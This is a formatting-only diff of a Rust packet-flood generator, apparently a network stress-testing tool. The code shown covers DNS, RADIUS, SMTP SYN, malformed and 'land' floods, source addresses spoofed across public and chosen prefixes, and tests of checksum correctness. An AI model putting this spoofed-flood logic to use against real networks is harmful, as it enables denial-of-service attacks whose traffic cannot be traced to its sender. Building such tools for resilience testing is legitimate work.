@@ -36,13 +36,8 @@ pub enum Attack {
 
 impl Attack {
     /// All of them.
-    pub const ALL: [Self; 5] = [
-        Self::DnsRandom,
-        Self::DnsFixed,
-        Self::RadiusJunk,
-        Self::SmtpSyn,
-        Self::Malformed,
-    ];
+    pub const ALL: [Self; 5] =
+        [Self::DnsRandom, Self::DnsFixed, Self::RadiusJunk, Self::SmtpSyn, Self::Malformed];
 }
 
 /// Whom a flood pretends to be, in turn.
@@ -75,30 +70,19 @@ impl Sources {
     /// When that's no prefix.
     pub fn within(prefix: &str, count: u32) -> Result<Self> {
         let (network, length) = prefix.split_once('/').context("a prefix has a slash")?;
-        let network: IpAddr = network
-            .parse()
-            .with_context(|| format!("prefix {prefix:?}"))?;
-        let length: u8 = length
-            .parse()
-            .with_context(|| format!("prefix {prefix:?}"))?;
+        let network: IpAddr = network.parse().with_context(|| format!("prefix {prefix:?}"))?;
+        let length: u8 = length.parse().with_context(|| format!("prefix {prefix:?}"))?;
         if length > if network.is_ipv4() { 32 } else { 128 } {
             bail!("prefix {prefix:?} is too long");
         }
-        Ok(Self::Within {
-            network,
-            length,
-            count,
-        })
+        Ok(Self::Within { network, length, count })
     }
 
     /// The IP version.
     pub const fn family(self) -> Family {
         match self {
             Self::Anywhere { family, .. } => family,
-            Self::Single(address)
-            | Self::Within {
-                network: address, ..
-            } => match address {
+            Self::Single(address) | Self::Within { network: address, .. } => match address {
                 IpAddr::V4(_) => Family::V4,
                 IpAddr::V6(_) => Family::V6,
             },
@@ -122,33 +106,20 @@ impl Sources {
     fn address(self, number: u32) -> IpAddr {
         match self {
             Self::Single(address) => address,
-            Self::Anywhere {
-                family: Family::V4, ..
-            } => {
+            Self::Anywhere { family: Family::V4, .. } => {
                 let [first, rest @ ..] = scramble(u64::from(number)).to_be_bytes();
-                IpAddr::V4(Ipv4Addr::new(
-                    public_octet(first),
-                    rest[0],
-                    rest[1],
-                    rest[2],
-                ))
+                IpAddr::V4(Ipv4Addr::new(public_octet(first), rest[0], rest[1], rest[2]))
             }
-            Self::Anywhere {
-                family: Family::V6, ..
-            } => {
+            Self::Anywhere { family: Family::V6, .. } => {
                 // 2a00::/12, the registry of Europe's addresses.
                 within(0x2a00 << 112, 12, 128, number).into_ipv6()
             }
-            Self::Within {
-                network: IpAddr::V4(network),
-                length,
-                ..
-            } => within(u128::from(network.to_bits()), length, 32, number).into_ipv4(),
-            Self::Within {
-                network: IpAddr::V6(network),
-                length,
-                ..
-            } => within(network.to_bits(), length, 128, number).into_ipv6(),
+            Self::Within { network: IpAddr::V4(network), length, .. } => {
+                within(u128::from(network.to_bits()), length, 32, number).into_ipv4()
+            }
+            Self::Within { network: IpAddr::V6(network), length, .. } => {
+                within(network.to_bits(), length, 128, number).into_ipv6()
+            }
         }
     }
 }
@@ -168,9 +139,7 @@ const fn public_octet(random: u8) -> u8 {
 
 fn within(network: u128, length: u8, bits: u32, number: u32) -> Address {
     let host_bits = bits.saturating_sub(u32::from(length));
-    let mask = 1_u128
-        .checked_shl(host_bits)
-        .map_or(u128::MAX, |size| size - 1);
+    let mask = 1_u128.checked_shl(host_bits).map_or(u128::MAX, |size| size - 1);
     let spread = scramble(u64::from(number));
     // Of long IPv6 prefixes the upper bits vary too, as those of real networks do.
     let host = if host_bits > 64 {
@@ -253,11 +222,7 @@ impl Flood {
             }
             send(&socket, templates(&options, macs), &options, &watched)
         })?;
-        Ok(Self {
-            shared,
-            started: Instant::now(),
-            thread: Some(thread),
-        })
+        Ok(Self { shared, started: Instant::now(), thread: Some(thread) })
     }
 
     /// Packets that left so far.
@@ -267,9 +232,7 @@ impl Flood {
 
     /// Whether it still sends.
     pub fn is_running(&self) -> bool {
-        self.thread
-            .as_ref()
-            .is_some_and(|thread| !thread.is_finished())
+        self.thread.as_ref().is_some_and(|thread| !thread.is_finished())
     }
 
     /// Ends it, and says how many packets left in how long.
@@ -280,9 +243,7 @@ impl Flood {
         self.shared.stopped.store(true, Ordering::Relaxed);
         let elapsed = self.started.elapsed();
         if let Some(thread) = self.thread.take() {
-            thread
-                .join()
-                .map_err(|_| anyhow!("the flood's thread panicked"))??;
+            thread.join().map_err(|_| anyhow!("the flood's thread panicked"))??;
         }
         Ok((self.sent(), elapsed))
     }
@@ -330,10 +291,7 @@ fn send(
             template.patch(options.sources.address(number), &mut random);
             number = (number + 1) % options.sources.count();
         }
-        let sent = send_all(
-            socket,
-            batch.iter().take(size).map(|template| &template.frame[..]),
-        )?;
+        let sent = send_all(socket, batch.iter().take(size).map(|template| &template.frame[..]))?;
         shared.sent.fetch_add(sent, Ordering::Relaxed);
     }
     Ok(())
@@ -360,10 +318,7 @@ fn send_all<'a>(
 }
 
 fn is_lost(error: &io::Error) -> bool {
-    matches!(
-        error.raw_os_error(),
-        Some(libc::ENOBUFS | libc::EAGAIN | libc::EINTR)
-    )
+    matches!(error.raw_os_error(), Some(libc::ENOBUFS | libc::EAGAIN | libc::EINTR))
 }
 
 /// A finished frame, and what of it changes from one packet to the next. Changes are made by 16-bit
@@ -442,11 +397,7 @@ impl Template {
     }
 
     fn word(&self, at: usize) -> Option<u16> {
-        self.frame
-            .get(at..at + 2)?
-            .try_into()
-            .ok()
-            .map(u16::from_be_bytes)
+        self.frame.get(at..at + 2)?.try_into().ok().map(u16::from_be_bytes)
     }
 
     fn set_word(&mut self, at: usize, value: u16) {
@@ -461,11 +412,8 @@ fn templates(options: &FloodOptions, (source_mac, target_mac): (Mac, Mac)) -> Ve
     let is_ipv4 = options.target.is_ipv4();
     let (source, target) = (options.sources.address(0), options.target);
     let to = |frame: fn(SocketAddr, SocketAddr) -> Frame, port: u16| {
-        frame(
-            SocketAddr::new(source, 40_000),
-            SocketAddr::new(target, port),
-        )
-        .macs(source_mac, target_mac)
+        frame(SocketAddr::new(source, 40_000), SocketAddr::new(target, port))
+            .macs(source_mac, target_mac)
     };
     let udp = |port| to(frames::udp, port);
     let tcp = |port| to(frames::tcp, port);
@@ -482,9 +430,7 @@ fn templates(options: &FloodOptions, (source_mac, target_mac): (Mac, Mac)) -> Ve
             let mut template = template(&frame, true);
             template.random.push(payload);
             // The label's length and its first letter share a word, which stays.
-            template.letters = (0..7)
-                .map(|word| payload + DNS_HEADER + 2 + 2 * word)
-                .collect();
+            template.letters = (0..7).map(|word| payload + DNS_HEADER + 2 + 2 * word).collect();
             vec![template]
         }
         Attack::DnsFixed => {
@@ -498,9 +444,7 @@ fn templates(options: &FloodOptions, (source_mac, target_mac): (Mac, Mac)) -> Ve
             let frame = udp(1812).payload(packet);
             let authenticator = frame.layout().payload + 4;
             let mut template = template(&frame, true);
-            template
-                .random
-                .extend((0..8).map(|word| authenticator + 2 * word));
+            template.random.extend((0..8).map(|word| authenticator + 2 * word));
             vec![template]
         }
         Attack::SmtpSyn => {
@@ -570,18 +514,12 @@ fn malformed(
     templates.extend([whole + 9, whole, whole - 5, whole - 8, 15].map(|length| {
         let cut = Template::new(&dns(query()).truncate(length), is_ipv4, true);
         // What was cut off is not patched, and its checksum covers it in vain.
-        Template {
-            source: cut.source.filter(|at| at + 16 < length),
-            ..cut
-        }
+        Template { source: cut.source.filter(|at| at + 16 < length), ..cut }
     }));
     let land = frames::udp(SocketAddr::new(target, 53), SocketAddr::new(target, 53))
         .macs(source_mac, target_mac)
         .payload(query());
-    templates.push(Template {
-        source: None,
-        ..Template::new(&land, is_ipv4, true)
-    });
+    templates.push(Template { source: None, ..Template::new(&land, is_ipv4, true) });
     templates
 }
 
@@ -609,23 +547,11 @@ mod tests {
     #[test]
     fn patched_packets_keep_right_checksums() {
         let mut random = Random::seeded(1);
-        let attacks = [
-            Attack::DnsRandom,
-            Attack::DnsFixed,
-            Attack::RadiusJunk,
-            Attack::SmtpSyn,
-        ];
-        for (attack, family) in attacks
-            .iter()
-            .flat_map(|attack| Family::BOTH.map(|family| (*attack, family)))
+        let attacks = [Attack::DnsRandom, Attack::DnsFixed, Attack::RadiusJunk, Attack::SmtpSyn];
+        for (attack, family) in
+            attacks.iter().flat_map(|attack| Family::BOTH.map(|family| (*attack, family)))
         {
-            let options = options(
-                attack,
-                Sources::Anywhere {
-                    family,
-                    count: 1_000,
-                },
-            );
+            let options = options(attack, Sources::Anywhere { family, count: 1_000 });
             let [mut template] = templates(&options, ([2; 6], [4; 6])).try_into().unwrap();
             for number in 0..1_000 {
                 let source = options.sources.address(number);
@@ -645,10 +571,8 @@ mod tests {
     #[test]
     fn random_labels_are_valid_and_differ() {
         let mut random = Random::seeded(2);
-        let options = options(
-            Attack::DnsRandom,
-            Sources::Single(Ipv4Addr::new(198, 51, 100, 9).into()),
-        );
+        let options =
+            options(Attack::DnsRandom, Sources::Single(Ipv4Addr::new(198, 51, 100, 9).into()));
         let [mut template] = templates(&options, ([2; 6], [4; 6])).try_into().unwrap();
         let names: HashSet<Vec<u8>> = (0..1_000)
             .map(|_| {
@@ -666,51 +590,23 @@ mod tests {
     #[test]
     fn sources_are_as_many_as_asked_for_and_where_they_should_be() {
         let distinct = |sources: Sources, count: u32| {
-            (0..count)
-                .map(|number| sources.address(number))
-                .collect::<HashSet<_>>()
+            (0..count).map(|number| sources.address(number)).collect::<HashSet<_>>()
         };
         let customers = distinct(Sources::within("100.64.0.0/16", 60_000).unwrap(), 60_000);
         assert_eq!(customers.len(), 60_000);
-        assert!(
-            customers
-                .iter()
-                .all(|ip| ip.to_string().starts_with("100.64."))
-        );
-        let customers = distinct(
-            Sources::within("2001:db8:6400::/40", 100_000).unwrap(),
-            100_000,
-        );
+        assert!(customers.iter().all(|ip| ip.to_string().starts_with("100.64.")));
+        let customers = distinct(Sources::within("2001:db8:6400::/40", 100_000).unwrap(), 100_000);
         assert_eq!(customers.len(), 100_000);
-        assert!(
-            customers
-                .iter()
-                .all(|ip| ip.to_string().starts_with("2001:db8:64"))
-        );
-        let anywhere = distinct(
-            Sources::Anywhere {
-                family: Family::V6,
-                count: 1,
-            },
-            100_000,
-        );
+        assert!(customers.iter().all(|ip| ip.to_string().starts_with("2001:db8:64")));
+        let anywhere = distinct(Sources::Anywhere { family: Family::V6, count: 1 }, 100_000);
         assert_eq!(anywhere.len(), 100_000);
         assert!(anywhere.iter().all(|ip| ip.to_string().starts_with("2a0")));
-        let anywhere = distinct(
-            Sources::Anywhere {
-                family: Family::V4,
-                count: 1,
-            },
-            100_000,
-        );
+        let anywhere = distinct(Sources::Anywhere { family: Family::V4, count: 1 }, 100_000);
         assert!(anywhere.len() > 99_000);
         for ip in anywhere {
             let IpAddr::V4(ip) = ip else { panic!("{ip}") };
             let special = ip.is_private() || ip.is_loopback() || ip.is_link_local();
-            assert!(
-                !special && !ip.is_multicast() && !ip.is_documentation(),
-                "{ip}"
-            );
+            assert!(!special && !ip.is_multicast() && !ip.is_documentation(), "{ip}");
             assert!(!matches!(ip.octets()[0], 0 | 100 | 240..), "{ip}");
         }
         for wrong in ["", "1.2.3.4", "1.2.3.4/33", "x/8", "::/129"] {
@@ -723,11 +619,7 @@ mod tests {
         for family in Family::BOTH {
             let options = options(Attack::Malformed, Sources::Anywhere { family, count: 9 });
             let mut all = templates(&options, ([2; 6], [4; 6]));
-            assert!(
-                (30..=BATCH).contains(&all.len()),
-                "{}: all in one batch",
-                all.len()
-            );
+            assert!((30..=BATCH).contains(&all.len()), "{}: all in one batch", all.len());
             for template in &mut all {
                 template.patch(options.sources.address(3), &mut Random::seeded(3));
                 assert!((15..=1_514).contains(&template.frame.len()));
